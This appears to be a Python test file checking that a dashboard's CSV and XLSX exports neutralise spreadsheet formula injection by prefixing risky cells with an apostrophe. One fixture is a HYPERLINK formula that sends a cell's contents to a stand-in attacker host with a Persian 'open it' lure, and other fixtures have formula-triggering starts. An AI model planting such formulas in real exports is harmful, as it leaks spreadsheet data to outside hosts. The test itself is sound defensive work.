"""Exports escape text a spreadsheet would run as a formula (issue 14: a unit named `=HYPERLINK(...)`)."""
from __future__ import annotations

import csv
import io
from datetime import date

from openpyxl import load_workbook

from ivr.analysis.dashboard import Column, Filters, Period, Table
from ivr.analysis.exports import export_name, safe_cell, to_csv, to_xlsx

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"باز کنید")'


def _table() -> Table:
    names = [EVIL, "+98912", "-2+3", "@SUM(A1:A2)", "\tx", "\r=1+1", "واحد ۱", "a=b"]
    rows = [{"unit": name, "count": i, "share": -12.5 if i == 1 else 0.5} for i, name in enumerate(names)]
    return Table("breakdown-unit", "=title", [Column("unit", "واحد", "text"), Column("count", "ثبت‌شده"),
                                              Column("share", "سهم", "pct")], rows)


def test_safe_cell_prefixes_formula_starts_and_keeps_numbers() -> None:
    assert [safe_cell(v) for v in (EVIL, "+1", "-1", "@x", "\tx", "\rx")] == [
        "'" + EVIL, "'+1", "'-1", "'@x", "'\tx", "'\rx"]
    assert [safe_cell(v) for v in ("واحد", "a=b", "", None, -3, 2.5, 0)] == ["واحد", "a=b", "", None, -3, 2.5, 0]


def test_csv_export_of_a_unit_named_hyperlink_is_plain_text() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(_table()).decode("utf-8-sig"))))
    cells = [r[0] for r in rows[1:]]
    assert cells == ["'" + EVIL, "'+98912", "'-2+3", "'@SUM(A1:A2)", "'\tx", "'\r=1+1", "واحد ۱", "a=b"]
    assert rows[2][2] == "-12.5"  # a negative number is a number, not text to escape


def test_xlsx_export_of_a_unit_named_hyperlink_holds_no_formula() -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(_table()))).active
    assert sheet["A1"].value == "'=title"
    cells = [sheet.cell(r, 1) for r in range(3, 11)]
    assert cells[0].value == "'" + EVIL and all(c.data_type == "s" for c in cells)
    assert [c.value for c in cells[1:4]] == ["'+98912", "'-2+3", "'@SUM(A1:A2)"]
    assert cells[6].value == "واحد ۱"
    assert sheet.cell(4, 2).value == 1 and sheet.cell(4, 2).data_type == "n"
    assert sheet.cell(4, 3).value == -12.5 and sheet.cell(4, 3).data_type == "n"


def test_export_name_is_unchanged() -> None:
    filters = Filters(Period(date(2026, 10, 23), date(2026, 11, 21)))
    assert export_name(_table(), filters, "csv") == "breakdown-unit_1405-08-01_1405-08-30.csv"
